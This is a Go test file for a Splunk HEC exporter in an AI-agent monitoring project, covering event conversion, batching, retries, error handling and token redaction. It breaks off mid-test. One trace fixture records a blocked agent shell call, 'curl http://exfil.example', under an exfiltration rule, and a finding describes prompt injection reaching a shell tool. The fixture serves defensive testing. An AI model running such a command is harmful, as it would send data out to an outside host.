package splunkhecexporter

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"math"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/component/componenttest"
	"go.opentelemetry.io/collector/config/configopaque"
	"go.opentelemetry.io/collector/config/configoptional"
	"go.opentelemetry.io/collector/consumer/consumererror"
	"go.opentelemetry.io/collector/exporter"
	"go.opentelemetry.io/collector/exporter/exporterhelper"
	"go.opentelemetry.io/collector/exporter/exportertest"
	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/plog"
	"go.opentelemetry.io/collector/pdata/ptrace"
	"go.uber.org/zap"
	"go.uber.org/zap/zapcore"
	"go.uber.org/zap/zaptest/observer"

	"github.com/agenttrail/agenttrail/exporter/splunkhecexporter/internal/metadata"
	"github.com/agenttrail/agenttrail/internal/exporterkit/exporterkittest"
)

const testToken = "7c1e3e2a-0f57-4a53-9d6e-2b1f2c3d4e5f"

// testConfig returns a valid config for endpoint without queue and retry, so that an export
// returns the outcome of its requests directly.
func testConfig(endpoint string) *Config {
	cfg := createDefaultConfig().(*Config)
	cfg.ClientConfig.Endpoint = endpoint
	cfg.Token = configopaque.String(testToken)
	cfg.QueueSettings = configoptional.None[exporterhelper.QueueBatchConfig]()
	cfg.BackOffConfig.Enabled = false
	return cfg
}

func fastRetry(cfg *Config) {
	cfg.BackOffConfig.Enabled = true
	cfg.BackOffConfig.InitialInterval = 5 * time.Millisecond
	cfg.BackOffConfig.MaxInterval = 10 * time.Millisecond
	cfg.BackOffConfig.MaxElapsedTime = 10 * time.Second
	cfg.BackOffConfig.RandomizationFactor = 0
}

// startRaw returns a started exporter without the exporterhelper wrapping.
func startRaw(t *testing.T, cfg *Config, sig signal, set exporter.Settings) *hecExporter {
	t.Helper()
	require.NoError(t, cfg.Validate())
	exp, err := newExporter(set, cfg, sig)
	require.NoError(t, err)
	exporterkittest.Start(t, exp.start, exp.shutdown)
	return exp
}

func startTraces(t *testing.T, cfg *Config, set exporter.Settings) exporter.Traces {
	return exporterkittest.StartTraces(t, NewFactory(), cfg, set)
}

func startLogs(t *testing.T, cfg *Config, set exporter.Settings) exporter.Logs {
	return exporterkittest.StartLogs(t, NewFactory(), cfg, set)
}

func observedSettings(level zapcore.Level) (exporter.Settings, *observer.ObservedLogs) {
	return exporterkittest.ObservedSettings(metadata.Type, level)
}

// makeTraces builds n spans, each with a distinct span id, spread over two resources.
func makeTraces(n int) ptrace.Traces {
	return exporterkittest.NumberedSpans(n, func(r int, rs ptrace.ResourceSpans) {
		rs.Resource().Attributes().PutStr("host.name", fmt.Sprintf("node-%d", r))
	}, nil)
}

func spanIDFor(i int) pcommon.SpanID { return exporterkittest.SpanID(i) }

func eventSpanIDs(t *testing.T, events []map[string]any) map[string]int {
	t.Helper()
	ids := map[string]int{}
	for _, ev := range events {
		body, ok := ev["event"].(map[string]any)
		require.True(t, ok, "span event body must be a JSON object")
		ids[body["span_id"].(string)]++
	}
	return ids
}

func requireEachSpanOnce(t *testing.T, events []map[string]any, n int) {
	t.Helper()
	ids := eventSpanIDs(t, events)
	require.Len(t, ids, n, "every span delivered")
	for id, c := range ids {
		require.Equal(t, 1, c, "span %s delivered %d times", id, c)
	}
}

func TestTracesToEvents(t *testing.T) {
	hec := newFakeHEC(t, testToken)
	cfg := testConfig(hec.endpoint())
	cfg.Source = "agenttrail"
	exp := startTraces(t, cfg, exportertest.NewNopSettings(metadata.Type))

	td := ptrace.NewTraces()
	rs := td.ResourceSpans().AppendEmpty()
	ra := rs.Resource().Attributes()
	ra.PutStr("host.name", "gpu-node-7")
	ra.PutStr("service.name", "inference-gateway")
	ra.PutStr("com.splunk.index", "soc_ai_traces")
	ra.PutStr("com.splunk.hec.access_token", "must-not-leak")
	ra.PutInt("agenttrail.pid", 4242)
	ra.PutEmptyMap("k8s").PutStr("namespace", "ml")
	span := rs.ScopeSpans().AppendEmpty().Spans().AppendEmpty()
	span.SetTraceID(pcommon.TraceID{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16})
	span.SetSpanID(pcommon.SpanID{1, 2, 3, 4, 5, 6, 7, 8})
	span.SetParentSpanID(pcommon.SpanID{0x11, 0x12, 0x13, 0x14, 0x15, 0x16, 0x17, 0x18})
	span.SetName("tool.call shell.exec")
	span.SetKind(ptrace.SpanKindServer)
	span.SetStartTimestamp(1_700_000_000_123_456_789)
	span.SetEndTimestamp(1_700_000_001_123_456_789)
	span.Attributes().PutStr("agenttrail.tool", "shell.exec")
	span.Attributes().PutInt("gen_ai.usage.input_tokens", 42)
	span.Attributes().PutEmptyMap("args").PutStr("cmd", "curl http://exfil.example")
	span.Status().SetCode(ptrace.StatusCodeError)
	span.Status().SetMessage("blocked by policy")
	se := span.Events().AppendEmpty()
	se.SetName("policy.violation")
	se.SetTimestamp(1_700_000_000_500_000_000)
	se.Attributes().PutStr("rule", "EXFIL-001")
	link := span.Links().AppendEmpty()
	link.SetTraceID(pcommon.TraceID{0xf0, 0xf1})
	link.SetSpanID(pcommon.SpanID{0xe0, 0xe1})
	link.TraceState().FromRaw("vendor=1")

	require.NoError(t, exp.ConsumeTraces(context.Background(), td))

	events := hec.recordedEvents()
	require.Len(t, events, 1)
	ev := events[0]
	assert.Equal(t, json.Number("1700000000.123"), ev["time"], "start time in epoch seconds, millisecond precision")
	assert.Equal(t, "gpu-node-7", ev["host"])
	assert.Equal(t, "agenttrail", ev["source"])
	assert.Equal(t, "otel:span", ev["sourcetype"])
	assert.Equal(t, "soc_ai_traces", ev["index"], "com.splunk.index resource attribute overrides index")
	assert.Equal(t, map[string]any{
		"service.name":   "inference-gateway",
		"agenttrail.pid": "4242",
		"k8s":            `{"namespace":"ml"}`,
	}, ev["fields"], "resource attributes as string fields, metadata and token attributes removed")

	body := ev["event"].(map[string]any)
	assert.Equal(t, "0102030405060708090a0b0c0d0e0f10", body["trace_id"])
	assert.Equal(t, "0102030405060708", body["span_id"])
	assert.Equal(t, "1112131415161718", body["parent_span_id"])
	assert.Equal(t, "tool.call shell.exec", body["name"])
	assert.Equal(t, "SPAN_KIND_SERVER", body["kind"])
	assert.Equal(t, json.Number("1700000000123456789"), body["start_time"])
	assert.Equal(t, json.Number("1700000001123456789"), body["end_time"])
	assert.Equal(t, map[string]any{
		"agenttrail.tool":           "shell.exec",
		"gen_ai.usage.input_tokens": json.Number("42"),
		"args":                      map[string]any{"cmd": "curl http://exfil.example"},
	}, body["attributes"])
	assert.Equal(t, map[string]any{"code": "STATUS_CODE_ERROR", "message": "blocked by policy"}, body["status"])
	assert.Equal(t, []any{map[string]any{
		"name":       "policy.violation",
		"timestamp":  json.Number("1700000000500000000"),
		"attributes": map[string]any{"rule": "EXFIL-001"},
	}}, body["events"])
	assert.Equal(t, []any{map[string]any{
		"trace_id":    "f0f10000000000000000000000000000",
		"span_id":     "e0e1000000000000",
		"trace_state": "vendor=1",
	}}, body["links"])

	reqs := hec.recordedRequests()
	require.Len(t, reqs, 1)
	h := reqs[0].header
	assert.Equal(t, "Splunk "+testToken, h.Get("Authorization"))
	assert.Equal(t, "application/json", h.Get("Content-Type"))
	assert.Equal(t, "gzip", h.Get("Content-Encoding"))
	assert.Equal(t, "AgentTrail", h.Get("__splunk_app_name"))
	assert.NotEmpty(t, h.Get("__splunk_app_version"))
	assert.Empty(t, h.Get("X-Splunk-Request-Channel"), "no channel when ack is disabled")
}

func TestTracesDefaultHostAndParentless(t *testing.T) {
	hec := newFakeHEC(t, testToken)
	exp := startRaw(t, testConfig(hec.endpoint()+"/event"), signalTraces, exportertest.NewNopSettings(metadata.Type))
	td := ptrace.NewTraces()
	s := td.ResourceSpans().AppendEmpty().ScopeSpans().AppendEmpty().Spans().AppendEmpty()
	s.SetName("root")
	require.NoError(t, exp.pushTraces(context.Background(), td))
	events := hec.recordedEvents()
	require.Len(t, events, 1)
	assert.Equal(t, "unknown", events[0]["host"])
	assert.NotContains(t, events[0], "time", "zero timestamp is omitted so Splunk stamps the event")
	assert.NotContains(t, events[0], "fields")
	body := events[0]["event"].(map[string]any)
	assert.Equal(t, "", body["parent_span_id"])
	assert.Equal(t, "SPAN_KIND_UNSPECIFIED", body["kind"])
	assert.Equal(t, map[string]any{"code": "STATUS_CODE_UNSET", "message": ""}, body["status"])
}

const ocsfFinding = `{
  "class_uid": 2004,
  "class_name": "Detection Finding",
  "severity_id": 4,
  "finding_info": {"uid": "f-0001", "title": "Prompt injection reached a shell tool"},
  "metadata": {"product": {"name": "AgentTrail"}, "version": "1.3.0"}
}`

func TestLogsToEvents(t *testing.T) {
	hec := newFakeHEC(t, testToken)
	cfg := testConfig(hec.endpoint())
	cfg.Index = "soc_findings"
	set, tel := exporterkittest.TelemetrySettings(t, metadata.Type)
	exp := startLogs(t, cfg, set)

	ld := plog.NewLogs()
	rl := ld.ResourceLogs().AppendEmpty()
	rl.Resource().Attributes().PutStr("host.name", "gpu-node-7")
	rl.Resource().Attributes().PutStr("service.name", "agenttrail")
	agent := rl.Resource().Attributes().PutEmptyMap("agent")
	agent.PutStr("name", "support-bot")
	agent.PutEmptySlice("tools").FromRaw([]any{"shell", "http"})
	lrs := rl.ScopeLogs().AppendEmpty().LogRecords()

	finding := lrs.AppendEmpty()
	finding.SetTimestamp(1_700_000_000_987_000_000)
	finding.Body().SetStr(ocsfFinding)
	finding.SetSeverityText("HIGH")
	finding.SetSeverityNumber(plog.SeverityNumberError)
	finding.SetTraceID(pcommon.TraceID{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16})
	finding.SetSpanID(pcommon.SpanID{1, 2, 3, 4, 5, 6, 7, 8})
	finding.Attributes().PutStr("agenttrail.rule", "PI-001")

	mapBody := lrs.AppendEmpty()
	mapBody.SetObservedTimestamp(1_700_000_001_000_000_000)
	mapBody.Body().SetEmptyMap().PutStr("class_name", "Detection Finding")
	mapBody.Attributes().PutStr("com.splunk.sourcetype", "agenttrail:custom")

	plain := lrs.AppendEmpty()
	plain.Body().SetStr("not json {")

	empty := lrs.AppendEmpty()
	empty.Body().SetStr("")

	array := lrs.AppendEmpty()
	array.Body().SetStr(`[{"a":1},{"a":2}]`)

	require.NoError(t, exp.ConsumeLogs(context.Background(), ld))

	events := hec.recordedEvents()
	require.Len(t, events, 4, "the empty body is dropped, the rest delivered")

	ev := events[0]
	assert.Equal(t, "agenttrail:finding:ocsf", ev["sourcetype"])
	assert.Equal(t, "soc_findings", ev["index"])
	assert.Equal(t, "gpu-node-7", ev["host"])
	assert.Equal(t, json.Number("1700000000.987"), ev["time"])
	body, ok := ev["event"].(map[string]any)
	require.True(t, ok, "a JSON string body is embedded as a JSON object, not a quoted string")
	assert.Equal(t, json.Number("2004"), body["class_uid"])
	assert.Equal(t, "Prompt injection reached a shell tool", body["finding_info"].(map[string]any)["title"])
	assert.Equal(t, map[string]any{
		"service.name":             "agenttrail",
		"agent.name":               "support-bot",
		"agent.tools":              []any{"shell", "http"},
		"agenttrail.rule":          "PI-001",
		"otel.log.severity.text":   "HIGH",
		"otel.log.severity.number": json.Number("17"),
		"trace_id":                 "0102030405060708090a0b0c0d0e0f10",
		"span_id":                  "0102030405060708",
	}, ev["fields"])

	assert.Equal(t, "agenttrail:custom", events[1]["sourcetype"], "com.splunk.sourcetype attribute overrides")
	assert.Equal(t, map[string]any{"class_name": "Detection Finding"}, events[1]["event"])
	assert.Equal(t, json.Number("1700000001"), events[1]["time"], "observed timestamp when timestamp is unset")
	assert.Equal(t, "not json {", events[2]["event"])
	assert.Equal(t, []any{map[string]any{"a": json.Number("1")}, map[string]any{"a": json.Number("2")}}, events[3]["event"])

	assertDropped(t, tel, map[string]int64{dropEmptyBody: 1})
}

func TestLogsSourcetypeFallsBackToSourcetype(t *testing.T) {
	hec := newFakeHEC(t, testToken)
	cfg := testConfig(hec.endpoint())
	cfg.LogsSourceType = ""
	cfg.SourceType = "contrib:style"
	exp := startRaw(t, cfg, signalLogs, exportertest.NewNopSettings(metadata.Type))
	ld := plog.NewLogs()
	ld.ResourceLogs().AppendEmpty().ScopeLogs().AppendEmpty().LogRecords().AppendEmpty().Body().SetStr("x")
	require.NoError(t, exp.pushLogs(context.Background(), ld))
	require.Len(t, hec.recordedEvents(), 1)
	assert.Equal(t, "contrib:style", hec.recordedEvents()[0]["sourcetype"])
}

func assertDropped(t *testing.T, tel *componenttest.Telemetry, want map[string]int64) {
	t.Helper()
	assert.Equal(t, want, exporterkittest.CountsByReason(t, tel, droppedMetricName))
}

func TestBatchingUnderContentLimit(t *testing.T) {
	const limit = 4096
	const spans = 300
	tests := []struct {
		name               string
		disableCompression bool
	}{
		{"gzip", false},
		{"uncompressed", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hec := newFakeHEC(t, testToken)
			cfg := testConfig(hec.endpoint())
			cfg.MaxContentLengthTraces = limit
			cfg.DisableCompression = tt.disableCompression
			exp := startTraces(t, cfg, exportertest.NewNopSettings(metadata.Type))

			require.NoError(t, exp.ConsumeTraces(context.Background(), makeTraces(spans)))

			reqs := hec.recordedRequests()
			require.Greater(t, len(reqs), 10, "several POSTs")
			for i, r := range reqs {
				assert.LessOrEqual(t, r.rawLen, limit, "request %d uncompressed body over the limit", i)
				assert.Greater(t, r.rawLen, limit/2, "request %d is not filled", i)
			}
			requireEachSpanOnce(t, hec.recordedEvents(), spans)
		})
	}
}

func TestOversizeEventDropped(t *testing.T) {
	tests := []struct {
		name   string
		mutate func(*Config)
		reason string
	}{
		{"over max_event_size", func(c *Config) { c.MaxEventSize = 2048 }, dropEventTooLarge},
		{"single event over max_content_length", func(c *Config) { c.MaxContentLengthTraces = 2048 }, dropOverContentLength},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hec := newFakeHEC(t, testToken)
			cfg := testConfig(hec.endpoint())
			tt.mutate(cfg)
			tel := componenttest.NewTelemetry()
			t.Cleanup(func() { require.NoError(t, tel.Shutdown(context.Background())) })
			set := exportertest.NewNopSettings(metadata.Type)
			set.TelemetrySettings = tel.NewTelemetrySettings() // before the logger: it carries one
			core, logs := observer.New(zapcore.InfoLevel)
			set.Logger = zap.New(core)
			exp := startTraces(t, cfg, set)

			td := makeTraces(10)
			big := td.ResourceSpans().At(0).ScopeSpans().At(0).Spans().At(2)
			big.Attributes().PutStr("gen_ai.prompt", strings.Repeat("A", 10_000))
			bigID := spanIDHex(big.SpanID())

			require.NoError(t, exp.ConsumeTraces(context.Background(), td), "the other spans are delivered")

			ids := eventSpanIDs(t, hec.recordedEvents())
			assert.Len(t, ids, 9)
			assert.NotContains(t, ids, bigID)
			assertDropped(t, tel, map[string]int64{tt.reason: 1})
			entries := logs.FilterMessage("Dropped events that Splunk HEC cannot accept").All()
			require.Len(t, entries, 1)
			assert.Equal(t, zapcore.ErrorLevel, entries[0].Level)
			assert.Equal(t, tt.reason, entries[0].ContextMap()["reason"])
			assert.EqualValues(t, 1, entries[0].ContextMap()["dropped_events"])
		})
	}
}

// Test413SplitsAndRetries: a HEC whose limit is below max_content_length answers 413 to a
// body over limit bytes (uncompressed, as Splunk's max_content_length). The exporter splits
// the batch and retries the halves recursively: every event that fits alone is delivered once,
// the only one that does not is dropped, counted and logged with its reason.
func Test413SplitsAndRetries(t *testing.T) {
	for _, compress := range []bool{false, true} {
		t.Run(fmt.Sprintf("gzip=%v", compress), func(t *testing.T) {
			const limit = 3000
			hec := newFakeHEC(t, testToken)
			var tooLarge atomic.Int64
			hec.intercept = func(w http.ResponseWriter, r *http.Request, _ int) bool {
				raw, err := readHECBody(r)
				require.NoError(t, err)
				if len(raw) <= limit {
					r.Body = io.NopCloser(bytes.NewReader(raw))
					r.Header.Del("Content-Encoding")
					return false // the fake HEC records it
				}
				tooLarge.Add(1)
				hecReply(w, http.StatusRequestEntityTooLarge, fmt.Sprintf("Content-Length of %d too large (maximum is %d)", len(raw), limit), 27)
				return true
			}
			cfg := testConfig(hec.endpoint())
			cfg.DisableCompression = !compress
			set, tel := exporterkittest.TelemetrySettings(t, metadata.Type)
			core, logs := observer.New(zapcore.InfoLevel)
			set.Logger = zap.New(core)
			exp := startTraces(t, cfg, set)

			const n = 40
			td := makeTraces(n)
			big := td.ResourceSpans().At(1).ScopeSpans().At(0).Spans().At(5)
			big.Attributes().PutStr("gen_ai.prompt", strings.Repeat("A", 2*limit))
			bigID := spanIDHex(big.SpanID())

			require.NoError(t, exp.ConsumeTraces(context.Background(), td), "a 413 is not a failure of the batch")

			ids := eventSpanIDs(t, hec.recordedEvents())
			assert.Len(t, ids, n-1, "every event that fits alone is delivered")
			assert.NotContains(t, ids, bigID)
			for id, c := range ids {
				assert.Equal(t, 1, c, "span %s delivered %d times", id, c)
			}
			for i, r := range hec.recordedRequests() {
				assert.LessOrEqual(t, r.rawLen, limit, "accepted request %d", i)
			}
			assert.Greater(t, tooLarge.Load(), int64(1), "the batch was split more than once")
			assert.LessOrEqual(t, tooLarge.Load(), int64(2*n), "bisection, not one request per event")
			assertDropped(t, tel, map[string]int64{dropRejectedTooLarge: 1})
			entries := logs.FilterMessage("Dropped events that Splunk HEC cannot accept").All()
			require.Len(t, entries, 1)
			assert.Equal(t, dropRejectedTooLarge, entries[0].ContextMap()["reason"])
			assert.EqualValues(t, 1, entries[0].ContextMap()["dropped_events"])
			assert.Greater(t, entries[0].ContextMap()["largest_event_bytes"], int64(2*limit))
		})
	}
}

// Test413ThenOutageResendsOnlyTheRest: a 413 split whose second half meets a 503 hands back
// to the queue only what was not delivered, without the event dropped as too large.
func Test413ThenOutageResendsOnlyTheRest(t *testing.T) {
	const limit = 3000
	hec := newFakeHEC(t, testToken)
	var accepted atomic.Int64
	hec.intercept = func(w http.ResponseWriter, r *http.Request, _ int) bool {
		raw, err := readHECBody(r)
		require.NoError(t, err)
		if len(raw) > limit {
			hecReply(w, http.StatusRequestEntityTooLarge, "too large", 27)
			return true
		}
		if accepted.Add(1) > 2 {
			hecReply(w, http.StatusServiceUnavailable, "Server is busy", 9)
			return true
		}
		r.Body = io.NopCloser(bytes.NewReader(raw))
		r.Header.Del("Content-Encoding")
		return false
	}
	cfg := testConfig(hec.endpoint())
	exp := startRaw(t, cfg, signalTraces, exportertest.NewNopSettings(metadata.Type))
	td := makeTraces(40)
	td.ResourceSpans().At(0).ScopeSpans().At(0).Spans().At(0).Attributes().PutStr("gen_ai.prompt", strings.Repeat("A", 2*limit))
	err := exp.pushTraces(context.Background(), td)
	require.Error(t, err)
	assert.False(t, consumererror.IsPermanent(err))
	var partial consumererror.Traces
	require.ErrorAs(t, err, &partial)
	delivered := eventSpanIDs(t, hec.recordedEvents())
	require.NotEmpty(t, delivered)
	rest := partial.Data()
	assert.Equal(t, 40-1-len(delivered), rest.SpanCount(), "the rest, without the delivered and the dropped")
	forEachSpan(rest, func(s ptrace.Span) {
		assert.NotContains(t, delivered, spanIDHex(s.SpanID()))
		assert.NotEqual(t, spanIDHex(spanIDFor(0)), spanIDHex(s.SpanID()))
	})
}

func forEachSpan(td ptrace.Traces, f func(ptrace.Span)) {
	for i := 0; i < td.ResourceSpans().Len(); i++ {
		sss := td.ResourceSpans().At(i).ScopeSpans()
		for j := 0; j < sss.Len(); j++ {
			for k := 0; k < sss.At(j).Spans().Len(); k++ {
				f(sss.At(j).Spans().At(k))
			}
		}
	}
}

func readHECBody(r *http.Request) ([]byte, error) {
	var body io.Reader = r.Body
	if r.Header.Get("Content-Encoding") == "gzip" {
		zr, err := gzip.NewReader(r.Body)
		if err != nil {
			return nil, err
		}
		body = zr
	}
	return io.ReadAll(body)
}

func TestCompression(t *testing.T) {
	tests := []struct {
		name         string
		disable      bool
		wantEncoding string
	}{
		{"gzip by default", false, "gzip"},
		{"disable_compression", true, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hec := newFakeHEC(t, testToken)
			cfg := testConfig(hec.endpoint())
			cfg.DisableCompression = tt.disable
			exp := startRaw(t, cfg, signalTraces, exportertest.NewNopSettings(metadata.Type))
			require.NoError(t, exp.pushTraces(context.Background(), makeTraces(50)))
			reqs := hec.recordedRequests()
			require.Len(t, reqs, 1)
			assert.Equal(t, tt.wantEncoding, reqs[0].contentEncoding)
			if tt.disable {
				assert.Equal(t, reqs[0].rawLen, reqs[0].wireLen)
			} else {
				assert.Less(t, reqs[0].wireLen, reqs[0].rawLen/3, "gzip shrinks repetitive JSON")
			}
			requireEachSpanOnce(t, hec.recordedEvents(), 50)
		})
	}
}

func TestInvalidTokenIsPermanentAndLoggedOnce(t *testing.T) {
	const wrongToken = "deadbeef-0000-4000-8000-badbadbadbad"
	hec := newFakeHEC(t, testToken)
	cfg := testConfig(hec.endpoint())
	cfg.Token = wrongToken
	fastRetry(cfg) // retry enabled: a permanent error must still not be retried
	core, logs := observer.New(zapcore.DebugLevel)
	set := exportertest.NewNopSettings(metadata.Type)
	set.Logger = zap.New(core)
	exp := startTraces(t, cfg, set)

	err := exp.ConsumeTraces(context.Background(), makeTraces(20))
	require.Error(t, err)
	assert.True(t, consumererror.IsPermanent(err))
	assert.Contains(t, err.Error(), "HTTP 401")
	assert.Contains(t, err.Error(), `"Invalid token"`)
	assert.NotContains(t, err.Error(), wrongToken)
	assert.Equal(t, 1, hec.eventRequestCount(), "not retried")

	var errorLines int
	for _, e := range logs.All() {
		line := e.Message + fmt.Sprint(e.ContextMap())
		assert.NotContains(t, line, wrongToken, "the token is never logged")
		if e.Level >= zapcore.ErrorLevel && strings.Contains(line, "Invalid token") {
			errorLines++
			assert.Contains(t, line, "401")
		}
	}
	assert.Equal(t, 1, errorLines, "exactly one error log line for the rejected request")
}

func TestPermanentStatuses(t *testing.T) {
	tests := []struct {
		name     string
		status   int
		body     string
		wantText string
	}{
		{"400 invalid data", http.StatusBadRequest, `{"text":"Invalid data format","code":6}`, `"Invalid data format" (code 6)`},
		{"400 incorrect index", http.StatusBadRequest, `{"text":"Incorrect index","code":7,"invalid-event-number":0}`, `"Incorrect index" (code 7)`},
		{"403 token disabled", http.StatusForbidden, `{"text":"Token disabled","code":1}`, `"Token disabled" (code 1)`},
		{"404 wrong path", http.StatusNotFound, `{"text":"The requested URL was not found on this server.","code":404}`, `HTTP 404 Not Found`},
		{"403 HTML from a proxy", http.StatusForbidden, "<html><body><h1>403 Forbidden</h1></body></html>", `non-JSON response: "<html><body><h1>403 Forbidden</h1></body></html>"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hec := newFakeHEC(t, testToken)
			hec.intercept = func(w http.ResponseWriter, _ *http.Request, _ int) bool {
				w.WriteHeader(tt.status)
				_, _ = w.Write([]byte(tt.body))
				return true
			}
			exp := startRaw(t, testConfig(hec.endpoint()), signalTraces, exportertest.NewNopSettings(metadata.Type))
			err := exp.pushTraces(context.Background(), makeTraces(3))
			require.Error(t, err)
			assert.True(t, consumererror.IsPermanent(err), "status %d must be permanent", tt.status)
			assert.Contains(t, err.Error(), fmt.Sprintf("HTTP %d", tt.status))
			assert.Contains(t, err.Error(), tt.wantText)
			assert.Contains(t, err.Error(), "/services/collector")
		})
	}
}

func TestDataChannelMissing(t *testing.T) {
	hec := newFakeHEC(t, testToken)
	hec.useAck = true // token requires a channel, exporter ack disabled
	exp := startRaw(t, testConfig(hec.endpoint()), signalTraces, exportertest.NewNopSettings(metadata.Type))
	err := exp.pushTraces(context.Background(), makeTraces(2))
	require.Error(t, err)
	assert.True(t, consumererror.IsPermanent(err))
	assert.Contains(t, err.Error(), `HTTP 400 Bad Request: Splunk says "Data channel is missing" (code 10)`)
}

func TestRetry503ThenSuccess(t *testing.T) {
	hec := newFakeHEC(t, testToken)
	hec.intercept = func(w http.ResponseWriter, _ *http.Request, n int) bool {
		if n > 2 {
			return false
		}
		hecReply(w, http.StatusServiceUnavailable, "Server is busy", 9)
		return true
	}
	cfg := testConfig(hec.endpoint())
	fastRetry(cfg)
	exp := startTraces(t, cfg, exportertest.NewNopSettings(metadata.Type))

	require.NoError(t, exp.ConsumeTraces(context.Background(), makeTraces(40)))
	assert.Equal(t, 3, hec.eventRequestCount(), "two 503 then success")
	requireEachSpanOnce(t, hec.recordedEvents(), 40)
}

func TestRetryResendsOnlyUnsentBatches(t *testing.T) {
	hec := newFakeHEC(t, testToken)
	hec.intercept = func(w http.ResponseWriter, _ *http.Request, n int) bool {
		if n != 3 { // the third batch fails once
			return false
		}
		hecReply(w, http.StatusInternalServerError, "Internal server error", 8)
		return true
	}
	cfg := testConfig(hec.endpoint())
	cfg.MaxContentLengthTraces = 4096
	fastRetry(cfg)
	exp := startTraces(t, cfg, exportertest.NewNopSettings(metadata.Type))

	require.NoError(t, exp.ConsumeTraces(context.Background(), makeTraces(200)))
	assert.Greater(t, len(hec.recordedRequests()), 5)
	requireEachSpanOnce(t, hec.recordedEvents(), 200)
}

func TestRetryAfter429(t *testing.T) {
	hec := newFakeHEC(t, testToken)
	hec.intercept = func(w http.ResponseWriter, _ *http.Request, n int) bool {
		if n != 1 {
			return false
		}
		w.Header().Set("Retry-After", "1")
		hecReply(w, http.StatusTooManyRequests, "Too many requests", 0)
		return true
	}

	t.Run("error carries the throttle delay", func(t *testing.T) {
		exp := startRaw(t, testConfig(hec.endpoint()), signalTraces, exportertest.NewNopSettings(metadata.Type))
		err := exp.pushTraces(context.Background(), makeTraces(2))
		require.Error(t, err)
		assert.False(t, consumererror.IsPermanent(err))
		assert.Contains(t, err.Error(), "Throttle (1s)")
		assert.Contains(t, err.Error(), "HTTP 429")
		var tracesErr consumererror.Traces
		require.ErrorAs(t, err, &tracesErr)
		assert.Equal(t, 2, tracesErr.Data().SpanCount(), "all spans handed back for retry")
	})

	t.Run("exporterhelper waits Retry-After then succeeds", func(t *testing.T) {
		hec.mu.Lock()
		hec.eventReqs = 0
		hec.mu.Unlock()
		cfg := testConfig(hec.endpoint())
		fastRetry(cfg)
		exp := startTraces(t, cfg, exportertest.NewNopSettings(metadata.Type))
		start := time.Now()
		require.NoError(t, exp.ConsumeTraces(context.Background(), makeTraces(4)))
		assert.GreaterOrEqual(t, time.Since(start), 900*time.Millisecond, "Retry-After honoured")
		assert.Equal(t, 2, hec.eventRequestCount())
	})
}

func TestRetryAfterParsing(t *testing.T) {
	tests := []struct {
		name   string
		value  string
		want   time.Duration
		wantOK bool
	}{
		{"seconds", "3", 3 * time.Second, true},
		{"negative", "-2", 0, true},
		{"absent", "", 0, false},
		{"garbage", "soon", 0, false},
		{"past date", "Mon, 02 Jan 2006 15:04:05 GMT", 0, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := parseRetryAfter(tt.value)
			assert.Equal(t, tt.wantOK, ok)
			assert.Equal(t, tt.want, got)
		})
	}
}

func TestHTMLBadGatewayIsRetryableWithExcerpt(t *testing.T) {
	page := "<!DOCTYPE html>\n<html>\n<head><title>502 Bad Gateway</title></head>\n<body>\n" +
		"<center><h1>502 Bad Gateway</h1></center>\n<!-- upstream auth header: Splunk " + testToken + " -->\n" +
		strings.Repeat("<p>padding padding padding</p>\n", 40) + "</body>\n</html>\n"
	hec := newFakeHEC(t, testToken)
	hec.intercept = func(w http.ResponseWriter, _ *http.Request, _ int) bool {
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(http.StatusBadGateway)
		_, _ = w.Write([]byte(page))
		return true
	}
	exp := startRaw(t, testConfig(hec.endpoint()), signalTraces, exportertest.NewNopSettings(metadata.Type))
	err := exp.pushTraces(context.Background(), makeTraces(3))
	require.Error(t, err)
	assert.False(t, consumererror.IsPermanent(err), "5xx is retryable")
	msg := err.Error()
	assert.Contains(t, msg, "HTTP 502 Bad Gateway")
	assert.Contains(t, msg, `non-JSON response: "<!DOCTYPE html> <html> <head><title>502 Bad Gateway</title>`)
	assert.NotContains(t, msg, "\n")
	assert.NotContains(t, msg, testToken)

	start := strings.Index(msg, `non-JSON response: "`) + len(`non-JSON response: "`)
	end := strings.Index(msg[start:], `"`)
	require.Positive(t, end)
	assert.LessOrEqual(t, end, 200, "excerpt is at most 200 bytes")
	assert.Less(t, len(msg), 400)
}

func TestIndexerAcknowledgement(t *testing.T) {
	ackCfg := func(endpoint string, timeout time.Duration) *Config {
		cfg := testConfig(endpoint)
		cfg.Ack = AckConfig{Enabled: true, PollInterval: 10 * time.Millisecond, Timeout: timeout}
		return cfg
	}

	t.Run("acked after two polls", func(t *testing.T) {
		hec := newFakeHEC(t, testToken)
		hec.useAck = true
		hec.ackAfterPolls = 2
		exp := startRaw(t, ackCfg(hec.endpoint(), 5*time.Second), signalTraces, exportertest.NewNopSettings(metadata.Type))

		require.NoError(t, exp.pushTraces(context.Background(), makeTraces(10)))
		assert.Equal(t, 3, hec.ackPollCount(), "two unacknowledged polls then the ack")
		reqs := hec.recordedRequests()
		require.Len(t, reqs, 1)
		_, err := uuid.Parse(reqs[0].channel)
		require.NoError(t, err, "channel is a UUID")
		assert.Equal(t, exp.channel, reqs[0].channel)
		requireEachSpanOnce(t, hec.recordedEvents(), 10)
	})

	t.Run("several batches share one channel and are all acked", func(t *testing.T) {
		hec := newFakeHEC(t, testToken)
		hec.useAck = true
		hec.ackAfterPolls = 1
		cfg := ackCfg(hec.endpoint(), 5*time.Second)
		cfg.MaxContentLengthTraces = 4096
		exp := startRaw(t, cfg, signalTraces, exportertest.NewNopSettings(metadata.Type))
		require.NoError(t, exp.pushTraces(context.Background(), makeTraces(100)))
		reqs := hec.recordedRequests()
		require.Greater(t, len(reqs), 3)
